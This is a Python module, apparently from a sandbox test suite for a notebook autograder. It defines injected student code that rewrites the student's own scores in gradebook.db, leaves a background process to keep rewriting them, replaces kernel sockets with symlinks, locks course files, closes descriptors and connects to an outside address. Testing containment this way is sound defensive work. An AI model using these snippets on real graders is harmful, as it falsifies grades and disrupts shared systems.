"""Damage to grades, and to whoever is connected: the gradebook, its lock, sockets, descriptors."""

from __future__ import annotations

from .attack import Attack, cell, wrong_huber

CONNECT = """
    import socket

    def connect():
        targets = [
            (socket.AF_INET, ("127.0.0.1", @PORT@)),
            (socket.AF_INET, ("localhost", @PORT@)),
            (socket.AF_INET, ("192.0.2.1", 80)),
            (socket.AF_UNIX, "@SOCKET@"),
            (socket.AF_UNIX, "\\0@TOKEN@"),
        ]
        for kind, address in targets:
            try:
                with socket.socket(kind) as one:
                    one.settimeout(2)
                    one.connect(address)
                    one.sendall(b"@MARK@")
            except OSError:
                pass
"""

# As any process of the same user could: its own score, in nbgrader's own tables.
GRADEBOOK = """
    import sqlite3

    def improve():
        try:
            base = sqlite3.connect("@COURSE@/gradebook.db", timeout=5)
            base.execute(
                "update grade set manual_score = 2, auto_score = 2, needs_manual_grade = 0 "
                "where notebook_id in (select n.id from submitted_notebook n join "
                "submitted_assignment a on n.assignment_id = a.id where a.student_id = '@STUDENT@')"
            )
            base.commit()
        except sqlite3.Error:
            pass
"""

GRADEBOOK_LATER = """
    import subprocess
    import sys

    code = '''
    import sqlite3, time
    for _ in range(60):  # @MARK@
        time.sleep(1)
        try:
            base = sqlite3.connect("@COURSE@/gradebook.db", timeout=5)
            base.execute(
                "update grade set manual_score = 2 where notebook_id in (select n.id from "
                "submitted_notebook n join submitted_assignment a on n.assignment_id = a.id "
                "where a.student_id = '@STUDENT@')")
            base.commit()
            base.close()
        except sqlite3.Error:
            pass
    '''.replace("\\n    ", "\\n")
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
"""

# Whoever connects to a kernel's socket by its path may be led elsewhere.
SOCKETS_REPLACED = """
    import glob
    import os

    def replace():
        for path in glob.glob("/tmp/kernel*") + glob.glob("@TMP@/@MARK@*"):
            try:
                os.unlink(path)
                os.symlink("@SOCKET@", path)
            except OSError:
                pass
        os.closerange(3, 65536)
"""

CLOSE = """
    import os

    def close_all():
        os.closerange(0, 65536)
"""

LOCK = """
    import fcntl
    import glob
    import os
    import sqlite3

    held = []
    try:
        base = sqlite3.connect("@COURSE@/gradebook.db", timeout=1)
        base.execute("begin exclusive")
        held.append(base)
    except sqlite3.Error:
        pass
    for path in glob.glob("@COURSE@/**", recursive=True) + glob.glob("@HOME@/.cache/tapework/**"):
        try:
            file = open(path)
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
            held.append(file)
        except OSError:
            pass
"""

ATTACKS = (
    Attack(
        "damage",
        "connections",
        "Connects to ports and sockets of this machine, and to an address outside.",
        {"huber_fn": wrong_huber(defined=cell(CONNECT) + "\n\nconnect()")},
        last="connect()",
    ),
    Attack(
        "damage",
        "sockets-replaced",
        "Puts links to a socket of this machine in the places of its kernel's sockets.",
        {"huber_fn": wrong_huber("replace()", SOCKETS_REPLACED)},
        may_lose="it cuts its own connections",
        safe_on_stock=False,
    ),
    Attack(
        "damage",
        "gradebook-written",
        "Opens gradebook.db with sqlite3 and sets its own scores.",
        {"huber_fn": wrong_huber("improve()", GRADEBOOK)},
    ),
    Attack(
        "damage",
        "gradebook-written-later",
        "Leaves a process behind that sets its own scores in gradebook.db once they are there.",
        {"huber_fn": wrong_huber(defined=GRADEBOOK_LATER)},
    ),
    Attack(
        "damage",
        "gradebook-locked",
        "Locks gradebook.db and the files of the course directory, and never lets go.",
        {"huber_fn": wrong_huber(defined=LOCK)},
        safe_on_stock=False,
    ),
    Attack(
        "damage",
        "descriptors-closed",
        "Closes all file descriptors of its process when it is asked.",
        {"huber_fn": wrong_huber("close_all()", CLOSE)},
        may_lose="its own answers leave by a descriptor",
        safe_on_stock=False,
    ),
)
